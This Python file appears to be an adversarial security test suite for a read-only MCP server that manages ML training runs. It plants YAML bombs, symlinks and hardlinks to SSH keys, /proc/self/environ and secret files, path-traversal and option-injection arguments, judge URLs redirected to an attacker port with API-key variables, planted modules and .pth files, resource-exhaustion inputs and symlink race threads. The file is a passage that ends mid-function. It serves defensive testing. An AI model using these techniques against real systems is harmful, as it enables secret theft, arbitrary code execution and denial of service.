"""Blind set 7's attacks, part 2 (registered in blind7_world.ATTACKS; played by test_mcp_readonly_blind7.py)."""

from __future__ import annotations

import json
import os
import shutil
import threading
import time
from pathlib import Path

from blind7_world import BASE, Ctx, add, attack

# --------------------------------------------------------------------------- sweep dirs, YAML

def _sweep_base(sd: Path) -> None:
    """A sweep dir the readers accept: one job dir with a manifest."""
    (sd / "0").mkdir(parents=True)
    (sd / "0" / "manifest.json").write_text(json.dumps({"status": "completed", "overrides": ["seed=1"]}))


@attack("yaml")
def sweep_yaml_python_tags(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    (sd / "0").mkdir(parents=True)
    (sd / "0" / "manifest.json").write_text(json.dumps({"status": "completed"}))
    (sd / "optimization_results.yaml").write_text(c.w.yaml_bomb_tag("opt"))
    (sd / "multirun.yaml").write_text(c.w.yaml_bomb_tag("multirun"))
    yield
    c.call("sweep_report", sweep_dir=str(sd))
    c.call("list_runs", limit=500)


@attack("yaml")
def run_hydra_yaml_python_tags(c):
    d = c.run()
    (d / ".hydra").mkdir()
    for f in ("config.yaml", "overrides.yaml", "hydra.yaml"):
        (d / ".hydra" / f).write_text(c.w.yaml_bomb_tag(f))
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)
    c.call("lineage", run_dir=str(d))


@attack("yaml")
def yaml_alias_bomb(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    (sd / "optimization_results.yaml").write_text("\n".join(lines) + "\n")
    (sd / "multirun.yaml").write_text("\n".join(lines) + "\n")
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("yaml")
def yaml_merge_key_bomb(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    (sd / "optimization_results.yaml").write_text("base: &b {x: 1}\n" + "".join(
        f"k{i}: {{<<: *b, y: {i}}}\n" for i in range(20000)))
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("yaml")
def yaml_deep_flow_nesting(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    (sd / "optimization_results.yaml").write_text("a: " + "[" * 200000 + "]" * 200000 + "\n")
    (sd / "multirun.yaml").write_text("a: " + "{a: " * 50000 + "1" + "}" * 50000 + "\n")
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("yaml")
def yaml_block_nesting_under_limit_marker(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    text = "".join("  " * i + f"k{i}:\n" for i in range(3000)) + "  " * 3000 + "v\n"
    (sd / "optimization_results.yaml").write_text(text)
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("yaml")
def sweep_job_dirs_link_outside(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    sd.mkdir(parents=True)
    (sd / "0").symlink_to(c.w.outside / "run")
    (sd / "1").mkdir()
    (sd / "1" / "manifest.json").symlink_to(c.w.outside / "run" / "manifest.json")
    (sd / "summary.md").symlink_to(c.w.secret_file)
    os.link(c.w.outside / "run" / "train.log", sd / "sweep_report.md")
    yield
    c.call("sweep_report", sweep_dir=str(sd))
    c.call("list_runs", limit=500)


@attack("yaml")
def sweep_summary_devices(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    (sd / "summary.md").symlink_to("/dev/zero")
    os.mkfifo(sd / "sweep_report.md")
    (sd / "optimization_results.yaml").symlink_to("/proc/self/fd/0")
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("yaml")
def sweep_dir_symlink_outside(c):
    (c.w.outputs / "multirun" / "2026-12-02").mkdir(parents=True, exist_ok=True)
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    sd.symlink_to(c.w.outside)
    yield
    c.call("sweep_report", sweep_dir=str(sd))
    c.call("sweep_report", sweep_dir=str(c.w.outside / "run"))


# --------------------------------------------------------------------------- lineage

def _lineage_manifest(path: str, sha: str = "0" * 64, parent: str | None = None) -> dict:
    entry = {"path": path, "sha256": sha}
    return {"status": "completed", "overrides": ["model=tiny"],
            "config": {"model": {"name": "tiny", "name_or_path": parent}, "task": {"name": "curated", "path": path}},
            "dataset": {"train": entry, "path": path, "sha256": sha},
            "lineage": {"data": entry, "held_out": entry, "held_out_prompts": entry,
                        "improve": {"dir": str(Path(path).parent), "summary": entry},
                        "transcripts": entry, "ingest_report": entry, "raw_logs": [entry, {"path": path}],
                        "parent": {"run_dir": parent, "path": parent}, "parent_model": parent}}


_LINEAGE = {
    "lineage_outside_file": "{O}/secret.txt",
    "lineage_environ": "/proc/self/environ",
    "lineage_dev_zero": "/dev/zero",
    "lineage_dev_stdin": "/dev/stdin",
    "lineage_home_key": "{H}/.ssh/id_rsa",
    "lineage_project_fifo": "{P}/fifo.jsonl",
    "lineage_project_hardlink": "{P}/hardlink_secret.jsonl",
    "lineage_link_in_outputs": "{OUT}/b7-lineage-link",
    "lineage_relative_escape": "../outside/secret.txt",
    "lineage_secret_in_path": "{OUT}/{S}/data.jsonl",
}
for _n, _p in _LINEAGE.items():
    def _li(c, _p=_p):
        w = c.w
        p = _p.format(O=w.outside, H=w.home, P=w.project, OUT=w.outputs, S=w.env_secrets["HF_TOKEN"])
        if "b7-lineage-link" in p and not Path(p).is_symlink():
            Path(p).symlink_to(w.secret_file)
        d = c.run(manifest=_lineage_manifest(p))
        yield
        c.call("lineage", run_dir=str(d))
        c.call("run_status", run_dir=str(d))
    add("lineage", _n, _li)


@attack("lineage")
def lineage_parent_cycle(c):
    a = c.w.outputs / "runs/2026-12-02" / f"b7-{c.name}-a"
    b = c.w.outputs / "runs/2026-12-02" / f"b7-{c.name}-b"
    c.run(f"b7-{c.name}-a", _lineage_manifest(str(c.w.project / "data" / "ok.jsonl"), parent=str(b / "model")))
    c.run(f"b7-{c.name}-b", _lineage_manifest(str(c.w.project / "data" / "ok.jsonl"), parent=str(a / "model")))
    (a / "model").mkdir()
    (b / "model").mkdir()
    yield
    c.call("lineage", run_dir=str(a))


@attack("lineage")
def lineage_long_chain(c):
    prev = None
    for i in range(400):
        d = c.run(f"b7-{c.name}-{i:03d}", _lineage_manifest(str(c.w.project / "data" / "ok.jsonl"),
                                                           parent=str(prev / "model") if prev else None))
        (d / "model").mkdir()
        prev = d
    c.last = prev
    yield
    c.call("lineage", run_dir=str(c.last))


@attack("lineage")
def lineage_parent_outside_run(c):
    (c.w.outside / "run" / "model").mkdir(exist_ok=True)
    d = c.run(manifest=_lineage_manifest(str(c.w.project / "data" / "ok.jsonl"),
                                         parent=str(c.w.outside / "run" / "model")))
    yield
    c.call("lineage", run_dir=str(d))


@attack("lineage")
def lineage_improve_summary_outside(c):
    imp = c.w.outside / "improve"
    imp.mkdir(exist_ok=True)
    (imp / "improve_summary.json").write_text(json.dumps({"threshold": 0.7, "note": c.w.file_secret("oimprove"),
                                                          "lineage": {"raw_logs": [{"path": str(c.w.secret_file)}]}}))
    (imp / "curated.jsonl").write_text(json.dumps({"prompt": "x", "completion": c.w.file_secrets["oimprove"]}) + "\n")
    d = c.run(manifest=_lineage_manifest(str(imp / "curated.jsonl")))
    yield
    c.w.hashes = c.w.outside_hashes()
    c.call("lineage", run_dir=str(d))


@attack("lineage")
def lineage_huge_manifest_list(c):
    entries = [{"path": str(c.w.project / "data" / "ok.jsonl"), "sha256": "0" * 64} for _ in range(50000)]
    m = _lineage_manifest(str(c.w.project / "data" / "ok.jsonl"))
    m["lineage"]["raw_logs"] = entries
    d = c.run(manifest=m)
    yield
    c.call("lineage", run_dir=str(d))


# --------------------------------------------------------------------------- ingest / improve

def _store(c: Ctx) -> str:
    return str(c.w.outputs / "benign_store")


_INGEST_INPUTS = {
    "ingest_outside_file": ["{O}/secret.jsonl"],
    "ingest_link_secret": ["{P}/link_secret"],
    "ingest_hardlink": ["{P}/hardlink_secret.jsonl"],
    "ingest_fifo": ["{P}/fifo.jsonl"],
    "ingest_dev_stdin": ["/dev/stdin"],
    "ingest_proc_environ": ["/proc/self/environ"],
    "ingest_link_environ": ["link_environ"],
    "ingest_dotenv": ["{P}/.env"],
    "ingest_ssh_key_via_link_home": ["link_home/.ssh/id_rsa"],
    "ingest_project_dir_with_links": ["{P}"],
    "ingest_tilde": ["~/notes.jsonl"],
    "ingest_relative_dotdot": ["../outside/secret.jsonl"],
    "ingest_file_url": ["file://{O}/secret.jsonl"],
    "ingest_many_items": ["{P}/data/chats.jsonl"] * 500,
    "ingest_dash_option": ["--help", "-m"],
    "ingest_hydra_override_as_input": ["data/chats.jsonl,../outside/secret.jsonl"],
    "ingest_list_syntax": ["[data/chats.jsonl,../outside/secret.jsonl]"],
}
for _n, _in in _INGEST_INPUTS.items():
    def _i(c, _in=_in):
        w = c.w
        c.call("ingest", inputs=[x.format(O=w.outside, P=w.project) for x in _in], output=str(c.o))
    add("ingest", _n, _i)


_INGEST_OUT = {
    "ingest_output_outside": "{O}/store",
    "ingest_output_link_dir": "link_outside_dir/store",
    "ingest_output_project": "{P}/b7store",
    "ingest_output_outputs_dotdot": "{OUT}/x/../../outside/store2",
    "ingest_output_outputs_root": "{OUT}",
    "ingest_output_proc": "/proc/self/cwd/b7store",
    "ingest_output_home": "~/b7store",
    "ingest_output_override_syntax": "{OUT}/s output=../outside/s3",
}
for _n, _out in _INGEST_OUT.items():
    def _io(c, _out=_out):
        w = c.w
        c.call("ingest", inputs=[str(w.project / "data" / "chats.jsonl")],
               output=_out.format(O=w.outside, P=w.project, OUT=w.outputs))
    add("write-outside", _n, _io)


@attack("write-outside")
def ingest_output_subdir_link(c):
    (c.w.outputs / f"b7-{c.name}").symlink_to(c.w.outside / "dir")
    yield
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")],
           output=str(c.w.outputs / f"b7-{c.name}" / "new"))
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(c.w.outputs / f"b7-{c.name}"))


@attack("write-outside")
def ingest_existing_store_links_to_victim(c):
    st = c.w.outputs / f"b7-{c.name}"
    st.mkdir()
    (st / "transcripts.jsonl").symlink_to(c.w.outside / "victim.txt")
    (st / "ingest_report.json").symlink_to(c.w.outside / "victim.txt")
    yield
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(st))


@attack("write-outside")
def ingest_existing_store_hardlink_victim(c):
    st = c.w.outputs / f"b7-{c.name}"
    st.mkdir()
    os.link(c.w.outside / "victim.txt", st / "transcripts.jsonl")
    yield
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(st))


@attack("write-outside")
def improve_output_links_to_victim(c):
    out = c.w.outputs / f"b7-{c.name}"
    out.mkdir()
    (out / "curated.jsonl").symlink_to(c.w.outside / "victim.txt")
    (out / "graded.jsonl").symlink_to(c.w.outside / "victim.txt")
    (out / "next_steps.md").symlink_to(c.w.outside / "victim.txt")
    yield
    c.call("improve", transcripts=_store(c), output=str(out))


@attack("write-outside")
def improve_output_hardlink_victim(c):
    out = c.w.outputs / f"b7-{c.name}"
    out.mkdir()
    os.link(c.w.outside / "victim.txt", out / "curated.jsonl")
    yield
    c.call("improve", transcripts=_store(c), output=str(out))


@attack("write-outside")
def improve_output_outside_and_project(c):
    for out in (str(c.w.outside / "imp"), str(c.w.project / "imp"), "link_outside_dir/imp", "../outside/imp2"):
        c.call("improve", transcripts=_store(c), output=out)


@attack("write-outside")
def improve_hydra_write_overrides(c):
    c.call("improve", transcripts=_store(c), output=str(c.o),
           overrides=[f"hydra.run.dir={c.w.outside}/hrun", "hydra.output_subdir=.hydra"])
    c.call("improve", transcripts=_store(c), output=str(c.o),
           overrides=["hydra.run.dir=../outside/hrun2", "hydra/job_logging=default"])
    c.call("improve", transcripts=_store(c), output=str(c.o),
           overrides=["+hydra.job_logging.handlers.b7={class: logging.FileHandler, filename: ../outside/h.log}",
                      "hydra.verbose=true"])


_IMPROVE = {
    "improve_transcripts_outside": dict(transcripts="{O}/secret.jsonl"),
    "improve_transcripts_environ": dict(transcripts="/proc/self/environ"),
    "improve_transcripts_fifo": dict(transcripts="{P}/fifo.jsonl"),
    "improve_transcripts_stdin": dict(transcripts="/dev/stdin"),
    "improve_transcripts_link": dict(transcripts="link_secret"),
    "improve_transcripts_hardlink": dict(transcripts="{P}/hardlink_secret.jsonl"),
    "improve_eval_prompts_outside": dict(eval_prompts="{O}/dir/data.jsonl"),
    "improve_eval_prompts_link": dict(eval_prompts="link_home/notes.jsonl"),
    "improve_eval_prompts_environ": dict(eval_prompts="/proc/self/environ"),
    "improve_reward_judge": dict(reward="judge"),
    "improve_reward_option_traversal": dict(reward="../../outside/conf/model/b7m"),
    "improve_task_option_module": dict(task="b7task"),
    "improve_reward_option_flag": dict(reward="customer_support --cfg=job"),
    "improve_threshold_nan": dict(threshold=float("1e308")),
    "improve_rubric_file_link": dict(reward="judge", overrides=["reward.rubric_file=link_secret"]),
    "improve_overrides_target": dict(overrides=["+reward._target_=b7reward.fn", "reward.params.fn=b7reward.fn"]),
    "improve_overrides_searchpath": dict(overrides=["hydra.searchpath=[pkg://b7pkg]"]),
    "improve_overrides_non_reward_key": dict(overrides=["transcripts={O}/secret.jsonl", "output={O}/imp3"]),
    "improve_overrides_judge_url": dict(reward="judge", overrides=["reward.base_url=http://127.0.0.1:{A}/v1",
                                                                   "reward.api_key_env=HF_TOKEN"]),
    "improve_overrides_judge_params_dict": dict(reward="judge", overrides=[
        "+reward.params={{base_url: 'http://127.0.0.1:{A}/v1', api_key_env: OPENAI_API_KEY}}"]),
}
for _n, _kw in _IMPROVE.items():
    def _im(c, _kw=_kw):
        w = c.w
        kw = {"transcripts": _store(c), "output": str(c.o)}
        for k, v in _kw.items():
            if isinstance(v, str):
                v = v.format(O=w.outside, P=w.project, A=w.attacker_port)
            elif isinstance(v, list):
                v = [x.format(O=w.outside, P=w.project, A=w.attacker_port) for x in v]
            kw[k] = v
        c.call("improve", **kw)
    add("improve", _n, _im)


@attack("ingest")
def ingest_records_quote_secrets(c):
    import base64
    s = c.w.env_secrets
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    recs = [{"id": s["HF_TOKEN"], "messages": [{"role": s["OPENAI_API_KEY"], "content": "x"}]},
            {"id": "c2", "messages": [{"role": "user", "content": "hi"},
                                      {"role": "tool", "tool_call_id": s["GITHUB_PAT"], "content": "x"}]},
            {"messages": [{"role": base64.b64encode(s["RUNPOD_API_KEY"].encode()).decode(), "content": "x"}]},
            {"request": {"messages": [{"role": "user", "content": "q"}]},
             "response": {"error": {"message": f"invalid key {s['WANDB_API_KEY']}"}}}]
    p.write_text("".join(json.dumps(r) + "\n" for r in recs) + '{"broken": "' + s["ANTHROPIC_API_KEY"] + "\n")
    yield
    c.call("ingest", inputs=[str(p)], output=str(c.o))
    c.call("ingest", inputs=[str(p)], output=str(c.o) + "-strict", strict=True)


@attack("ingest")
def ingest_then_improve_secret_content(c):
    s = c.w.env_secrets
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    p.write_text("".join(json.dumps({"messages": [
        {"role": "user", "content": f"my order 1234, key {s['HF_TOKEN']}"},
        {"role": "assistant", "content": f"Sure, your order 1234 ships. token={s['OPENAI_API_KEY']}"}]}) + "\n"
        for _ in range(3)))
    yield
    c.call("ingest", inputs=[str(p)], output=str(c.o / "store"))
    c.call("improve", transcripts=str(c.o / "store"), output=str(c.o / "imp"), threshold=0.0)


@attack("ingest")
def ingest_input_dir_with_links(c):
    d = c.w.outputs / f"b7-{c.name}"
    d.mkdir()
    (d / "a.jsonl").symlink_to(c.w.outside / "secret.jsonl")
    os.link(c.w.outside / "secret.jsonl", d / "b.jsonl")
    (d / "c.jsonl").symlink_to("/proc/self/environ")
    os.mkfifo(d / "d.jsonl")
    (d / "sub").symlink_to(c.w.outside)
    yield
    c.call("ingest", inputs=[str(d)], output=str(c.o))


@attack("ingest")
def ingest_format_injection(c):
    for fmt in ("openai output=../outside/x", "../../outside/secret", "langchain\n--help", "b7evil"):
        c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(c.o), format=fmt)


# --------------------------------------------------------------------------- network

@attack("network")
def net_plan_runpod_readonly(c):
    c.plan("provider=runpod", "provider.max_cost=1")
    c.plan("provider=runpod", "provider.max_cost=1", "provider.gpu=NVIDIA H100 80GB HBM3")


@attack("network")
def net_plan_modal_ray_slurm(c):
    c.plan("provider=modal", "provider.max_cost=1")
    c.plan("provider=ray")
    c.plan("provider=slurm")
    c.plan("hydra/launcher=slurm")


@attack("network")
def net_logger_wandb(c):
    c.compose("logger=wandb")
    c.plan("logger=wandb", "+logger.host=http://127.0.0.1:%d" % c.w.attacker_port)


@attack("network")
def net_hub_model_ids(c):
    c.compose("model=smollm2", "profile=cpu")
    c.compose("model.name_or_path=HuggingFaceTB/SmolLM2-135M-Instruct", "model.source=hub")
    c.compose("model=qwen", "model.size=0.6B")


@attack("network")
def net_model_path_is_url(c):
    u = f"http://127.0.0.1:{c.w.attacker_port}/m"
    c.compose(f"model.name_or_path={u}")
    c.compose("task=jsonl", f"task.path={u}.jsonl")
    c.compose("task=jsonl", "task.path=hf://datasets/b7/b7")
    c.compose(f"resume={u}")


@attack("network")
def net_nonurl_keys_name_host(c):
    u = f"http://127.0.0.1:{c.w.attacker_port}/x"
    c.compose(f"+b7.webhook={u}", f"+b7.server={u}", f"+b7.proxy={u}", f"+b7.dsn={u}")


@attack("network")
def net_vllm_server_probe(c):
    c.compose("rollout=vllm_server", "profile.device=cuda")
    c.plan("rollout=vllm_server", "profile=gpu")


@attack("network")
def net_judge_reward_compose(c):
    c.compose("reward=judge")
    c.compose("experiment=support_agent")
    c.compose("reward=judge", "+reward.calibration=true")


@attack("network")
def net_gsm8k_shipped(c):
    c.compose("task=gsm8k", "reward=gsm8k")
    c.compose("experiment=gsm8k")


@attack("network")
def net_every_experiment_and_provider(c):
    for e in ("gsm8k", "tool_agent", "tool_agent_grpo", "tool_agent_sft", "support_agent"):
        c.plan(f"experiment={e}")
    for p in ("local", "local_gpus", "ray", "slurm"):
        c.plan(f"provider={p}")


# --------------------------------------------------------------------------- code and imports

@attack("code")
def code_target_in_reward(c):
    c.compose("+reward._target_=b7reward.fn")
    c.compose("reward={_target_: b7reward.fn}")
    c.compose("task.environment._target_=b7evil.fn")


@attack("code")
def code_hydra_plugins_dir_in_project(c):
    c.w.plant_module(c.w.project, "hydra_plugins/b7plug")
    yield
    c.s.restart()
    c.compose()
    c.compose("hydra/sweeper=b7plug")
    c.call("improve", transcripts=_store(c), output=str(c.o))
    yield
    shutil.rmtree(c.w.project / "hydra_plugins")
    c.s.restart()


@attack("code")
def code_stdlib_shadows_for_subprocesses(c):
    c.d.mkdir(parents=True, exist_ok=True)
    for mod in ("yaml", "json", "orjson", "omegaconf", "tqdm"):
        c.w.plant_module(c.d, mod)
    (c.d / "data.jsonl").write_text((c.w.project / "data" / "chats.jsonl").read_text())
    yield
    c.call("ingest", inputs=[str(c.d / "data.jsonl")], output=str(c.o / "store"))
    c.call("improve", transcripts=str(c.o / "store"), output=str(c.o / "imp"))
    yield
    shutil.rmtree(c.d)


@attack("code")
def code_stdlib_shadows_in_project_root(c):
    for mod in ("yaml", "omegaconf", "hydra_core"):
        c.w.plant_module(c.w.project, mod)
    yield
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(c.o / "store"))
    c.call("improve", transcripts=str(c.o / "store"), output=str(c.o / "imp"))
    yield
    for mod in ("yaml", "omegaconf", "hydra_core"):
        (c.w.project / f"{mod}.py").unlink()


@attack("code")
def code_sitecustomize_on_restart(c):
    c.s.restart()
    c.compose()


@attack("code")
def code_launcher_and_sweeper_groups(c):
    c.plan("hydra/launcher=b7evil")
    c.plan("hydra/sweeper=b7evil")
    c.plan("+hydra/callbacks=b7evil")
    c.compose("sweep=b7evil")


@attack("code")
def code_trust_remote_code_model_dir(c):
    m = c.w.outputs / f"b7-{c.name}"
    m.mkdir()
    (m / "config.json").write_text(json.dumps({"model_type": "b7", "auto_map": {"AutoConfig": "b7cfg.Cfg"}}))
    (m / "b7cfg.py").write_text(c.w._marker_code("automap"))
    yield
    c.compose(f"model.name_or_path={m}", "model.source=local")
    c.compose(f"model.name_or_path={m}", "model.trust_remote_code=false")


@attack("code")
def code_reward_components_by_name(c):
    c.compose("reward=composite", "+reward.params.graders=[b7reward.fn]")
    c.compose("+reward.fn=b7reward:fn", "+reward.function=b7reward.fn", "+reward.module=b7reward")
    c.compose("task=jsonl", "task.path=data/ok.jsonl", "+task.loader=b7task.fn")


@attack("code")
def code_pth_and_pycache_in_outputs(c):
    (c.w.outputs / "b7out.pth").write_text(f"import os; open('{c.w.markers}/pth-outputs','w')\n")
    c.w.plant_module(c.w.outputs, "b7outmod")
    yield
    c.compose("+b7.x=b7outmod.fn")
    c.call("improve", transcripts=_store(c), output=str(c.o))


# --------------------------------------------------------------------------- resource exhaustion

@attack("exhaustion")
def dos_deep_dict_override(c):
    c.compose("+b7.x=" + "{a:" * 3000 + "1" + "}" * 3000)


@attack("exhaustion")
def dos_deep_list_override(c):
    c.compose("+b7.x=" + "[" * 6000 + "]" * 6000)


@attack("exhaustion")
def dos_max_items_and_chars(c):
    c.compose(*[f"+b7.k{i}=" + "x" * 19900 for i in range(490)])


@attack("exhaustion")
def dos_sweep_product(c):
    c.compose("seed=range(0,9999)", "+b7.y=range(0,9999)", multirun=True)
    c.compose("seed=range(0,1000000000000)", multirun=True)
    c.compose(*[f"+b7.k{i}=1,2" for i in range(40)], multirun=True)


@attack("exhaustion")
def dos_sweep_at_the_limit(c):
    c.plan("seed=range(0,10000)", multirun=True)


@attack("exhaustion")
def dos_big_numbers(c):
    c.compose("profile.max_steps=" + "9" * 19000)
    c.compose("objective.learning_rate=1e999999")
    c.compose("seed=range(0," + "9" * 5000 + ")", multirun=True)


@attack("exhaustion")
def dos_many_run_dirs(c):
    base = c.w.outputs / "runs" / "2026-12-03"
    for i in range(3000):
        d = base / f"b7-{i:05d}"
        d.mkdir(parents=True)
        (d / "manifest.json").write_text('{"status": "completed"}')
    yield
    c.call("list_runs", limit=500)
    yield
    shutil.rmtree(base, ignore_errors=True)


@attack("exhaustion")
def dos_deep_dir_tree(c):
    p = c.w.outputs / "runs" / "deep"
    for i in range(300):
        p = p / "d"
    p.mkdir(parents=True)
    (p / "manifest.json").write_text('{"status": "completed"}')
    yield
    c.call("list_runs", limit=500)
    yield
    shutil.rmtree(c.w.outputs / "runs" / "deep", ignore_errors=True)


@attack("exhaustion")
def dos_big_metrics(c):
    d = c.run()
    with open(d / "metrics.jsonl", "w") as f:
        f.write('{"step": 1, "reward": 0.1}\n' * 1_500_000)
    yield
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("list_runs", limit=500)


@attack("exhaustion")
def dos_metrics_one_huge_line(c):
    d = c.run()
    with open(d / "metrics.jsonl", "w") as f:
        f.write('{"step": 1, "k": "' + "A" * 30_000_000 + '"}\n')
        f.write('{"step": 2, ' + ", ".join(f'"c{i}": {i}' for i in range(150_000)) + "}\n")
    yield
    c.call("run_metrics", run_dir=str(d), last=0)


@attack("exhaustion")
def dos_scrubber_regex_bait(c):
    d = c.run(manifest={"status": "failed", "error": ("eyJ" + "A" * 50 + ".") * 3000})
    bait = ("sk-" + "-" * 200 + " " + "ghp_" + "a" * 300 + " eyJ" + "a." * 500 + " Bearer " * 50 + "hf_" * 300 +
            "=" * 500 + "%41" * 2000 + "\\u0041" * 2000 + "A" * 4000 + "\n")
    (d / "train.log").write_text(bait * 16)
    (d / "metrics.jsonl").write_text("".join(json.dumps({"step": i, "txt": "QUFB" * 900}) + "\n" for i in range(1000)))
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)
    c.call("run_metrics", run_dir=str(d), last=0)


@attack("exhaustion")
def dos_huge_manifest_and_eval(c):
    d = c.run(manifest={"status": "completed", "error": "Zm9v" * 6_000_000})
    (d / "eval_results.json").write_text(json.dumps({"summary": {}, "records": [
        {"prompt": "x" * 100, "trained": "QUJD" * 5000, "base": "eyJhIjoi" * 2000} for _ in range(600)]}))
    yield
    c.call("run_status", run_dir=str(d))
    c.call("run_eval", run_dir=str(d), records=500)
    c.call("list_runs", limit=500)


@attack("exhaustion")
def dos_deep_json_manifest(c):
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "manifest.json").write_text('{"status": "completed", "x": ' + "[" * 500000 + "]" * 500000 + "}")
    (d / "eval_results.json").write_text("[" * 500000 + "]" * 500000)
    yield
    c.call("run_status", run_dir=str(d))
    c.call("run_eval", run_dir=str(d))
    c.call("list_runs", limit=500)


@attack("exhaustion")
def dos_summary_md_huge_sparse(c):
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    _sweep_base(sd)
    with open(sd / "summary.md", "wb") as f:
        f.truncate(8 * 1024 ** 3)
    with open(sd / "sweep_report.md", "w") as f:
        f.write(("| a | " + "sk-" + "x" * 40 + " |\n") * 800_000)
    yield
    c.call("sweep_report", sweep_dir=str(sd))


@attack("exhaustion")
def dos_log_sparse_huge(c):
    d = c.run()
    with open(d / "train.log", "wb") as f:
        f.truncate(16 * 1024 ** 3)
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)


@attack("exhaustion")
def dos_ingest_sparse_input(c):
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    with open(p, "wb") as f:
        f.truncate(300 * 1024 ** 2)
    yield
    c.call("ingest", inputs=[str(p)], output=str(c.o))


@attack("exhaustion")
def dos_ingest_deep_json_record(c):
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    p.write_text('{"messages": ' + "[" * 200000 + "]" * 200000 + "}\n")
    yield
    c.call("ingest", inputs=[str(p)], output=str(c.o))


@attack("exhaustion")
def dos_list_options_big_group(c):
    c.call("list_options", group="x" * 19999)
    c.call("list_options", group="../../../outside/conf/model")
    c.call("list_options", group="/proc/self")


# --------------------------------------------------------------------------- races

def _flipper(stop: threading.Event, path: Path, make_real, make_link) -> threading.Thread:
    def go():
        while not stop.is_set():
            try:
                tmp = path.with_name(path.name + ".b7tmp")
                make_link(tmp)
                os.replace(tmp, path)
                time.sleep(0.001)
                tmp2 = path.with_name(path.name + ".b7tmp2")
                make_real(tmp2)
                os.replace(tmp2, path)
            except OSError:
                pass
    t = threading.Thread(target=go, daemon=True)
    t.start()
    return t


def _race(c: Ctx, path: Path, make_real, make_link, calls) -> None:
    stop = threading.Event()
    t = _flipper(stop, path, make_real, make_link)
    try:
        for _ in range(6):
            for tool, kw in calls:
                c.call(tool, **kw)
    finally:
        stop.set()
        t.join(5)


@attack("race")
def race_log_swapped_for_link(c):
    d = c.run()
    (d / "train.log").write_text("benign log\n")
    yield
    _race(c, d / "train.log", lambda p: p.write_text("benign log\n"),
          lambda p: p.symlink_to(c.w.outside / "run" / "train.log"),
          [("run_status", {"run_dir": str(d), "log_lines": 50})])


@attack("race")
def race_metrics_swapped_for_hardlink(c):
    d = c.run()
    (d / "metrics.jsonl").write_text('{"step": 1}\n')
    yield
    _race(c, d / "metrics.jsonl", lambda p: p.write_text('{"step": 1}\n'),
          lambda p: os.link(c.w.outside / "run" / "metrics.jsonl", p),
          [("run_metrics", {"run_dir": str(d), "last": 0})])


@attack("race")
def race_manifest_swapped_for_environ(c):
    d = c.run()
    yield
    _race(c, d / "manifest.json", lambda p: p.write_text('{"status": "completed"}'),
          lambda p: p.symlink_to("/proc/self/environ"),
          [("run_status", {"run_dir": str(d)}), ("list_runs", {"limit": 500})])


@attack("race")
def race_eval_swapped_for_outside(c):
    d = c.run()
    (d / "eval_results.json").write_text('{"summary": {}, "records": []}')
    yield
    _race(c, d / "eval_results.json", lambda p: p.write_text('{"summary": {}, "records": []}'),
          lambda p: p.symlink_to(c.w.outside / "run" / "eval_results.json"),
          [("run_eval", {"run_dir": str(d), "records": 10})])


@attack("race")
def race_ingest_input_swapped(c):
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    body = (c.w.project / "data" / "chats.jsonl").read_text()
    p.write_text(body)
    yield
    stop = threading.Event()
    t = _flipper(stop, p, lambda q: q.write_text(body), lambda q: q.symlink_to(c.w.outside / "secret.jsonl"))
    try:
        for i in range(4):
            c.call("ingest", inputs=[str(p)], output=str(c.o / f"s{i}"))
    finally:
        stop.set()
        t.join(5)


@attack("race")
def race_ingest_output_swapped_for_outside_dir(c):
    out = c.w.outputs / f"b7-{c.name}"
    out.mkdir()
    yield
    stop = threading.Event()

    def go():
        while not stop.is_set():
            try:
                if out.is_symlink():
                    out.unlink()
                    out.mkdir()
                else:
                    shutil.rmtree(out, ignore_errors=True)
                    out.symlink_to(c.w.outside / "dir")
                time.sleep(0.002)
            except OSError:
                pass
    t = threading.Thread(target=go, daemon=True)
    t.start()
    try:
        for _ in range(4):
            c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(out))
            c.call("improve", transcripts=_store(c), output=str(out))
    finally:
        stop.set()
        t.join(5)


@attack("race")
def race_run_dir_swapped_for_outside_link(c):
    d = c.run()
    (d / "train.log").write_text("benign\n")
    yield
    stop = threading.Event()
    alt = d.with_name(d.name + ".real")

    def go():
        while not stop.is_set():
            try:
                os.rename(d, alt)
                d.symlink_to(c.w.outside / "run")
                time.sleep(0.002)
                d.unlink()
                os.rename(alt, d)
            except OSError:
                pass
    t = threading.Thread(target=go, daemon=True)
    t.start()
    try:
